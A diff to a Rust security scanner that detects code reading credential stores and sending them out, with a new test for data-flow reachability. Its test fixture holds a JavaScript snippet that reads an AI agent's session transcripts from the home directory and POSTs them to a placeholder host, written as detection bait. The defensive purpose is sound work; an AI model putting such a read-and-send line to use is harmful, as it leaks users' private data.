@@ -203,6 +203,12 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
     // `collects` holds (then only a call it reaches sends it).
     let mut env_sources: Vec<usize> = Vec::new();
     let mut collects_env = false;
+    // Where a credential store is named, and whether that is what
+    // `collects` holds (then, too, only a call it reaches sends it; not
+    // the project's `.env`, whose keys reach a call through the
+    // environment `load_dotenv` fills, which no token shows).
+    let mut store_sources: Vec<usize> = Vec::new();
+    let mut collects_store = false;
     let mut decoded_vars: HashSet<String> = HashSet::new();
     let mut fetched_vars: HashSet<String> = HashSet::new();
     // Bundled and minified code is a library's: its reads of the
@@ -269,6 +275,8 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                     // the user's is collected.
                     if !pattern && !keychain {
                         let moved = if own { Moved::OwnKey } else { Moved::Secrets };
+                        store_sources.push(i);
+                        collects_store |= collects.is_none();
                         collects.get_or_insert((
                             t.span.clone(),
                             format!("the credential store `{store}`"),
@@ -534,6 +542,7 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
         }
     }
     let reach = crate::reach::Reach::of(tokens, &env_sources);
+    let store_reach = crate::reach::Reach::of(tokens, &store_sources);
     for (span, name, host, leaks_var, args) in &sinks {
         if host.as_deref().is_some_and(net::is_local) {
             continue;
@@ -550,7 +559,11 @@ fn analyze(ctx: &mut Ctx<'_>, unit: &Unit<'_>, norm: &Norm, lang: Lang) {
                 severity::secrets_sent(declared, ctx.path(), host.as_deref(), *moved);
             // The environment collected in one place and a call elsewhere
             // that does not send it: no flow seen, so no attack in progress.
-            if collects_env && !reach.sends(tokens, args.clone(), &env_sources) {
+            if collects_env && !reach.sends(tokens, args.clone(), &env_sources)
+                || collects_store
+                    && *moved == Moved::Secrets
+                    && !store_reach.sends(tokens, args.clone(), &store_sources)
+            {
                 severity = severity.min(Severity::High);
             }
             ctx.report(
@@ -1484,6 +1497,19 @@ mod tests {
         );
         assert!(sent.iter().any(|f| f.0 == "SK610"), "{sent:?}");
         assert!(!flagged("scripts/a.py", "import os\nprint(dict(os.environ))\n").is_empty());
+    }
+
+    #[test]
+    fn a_store_read_in_one_place_and_a_call_that_does_not_send_it() {
+        // A usage dashboard counting its agent's transcripts, and calling
+        // an API with something else: no flow from one to the other.
+        let js = "const dir = path.join(os.homedir(), '.codex/sessions');\nconst n = fs.readdirSync(dir).length;\nasync function usage(token) {\n  return fetch('https://api.example.net/usage', { headers: { a: token } });\n}\n";
+        let found = flagged("scripts/a.js", js);
+        assert!(found.iter().all(|f| f.1 < Severity::Critical), "{found:?}");
+        // Read and sent, it is a leak in progress.
+        let js = "const dir = path.join(os.homedir(), '.codex/sessions');\nconst data = fs.readFileSync(dir + '/s.jsonl', 'utf8');\nfetch('https://x.example.net/in', { method: 'POST', body: data });\n";
+        let found = flagged("scripts/a.js", js);
+        assert!(found.contains(&("SK610", Severity::Critical)), "{found:?}");
     }
 
     #[test]
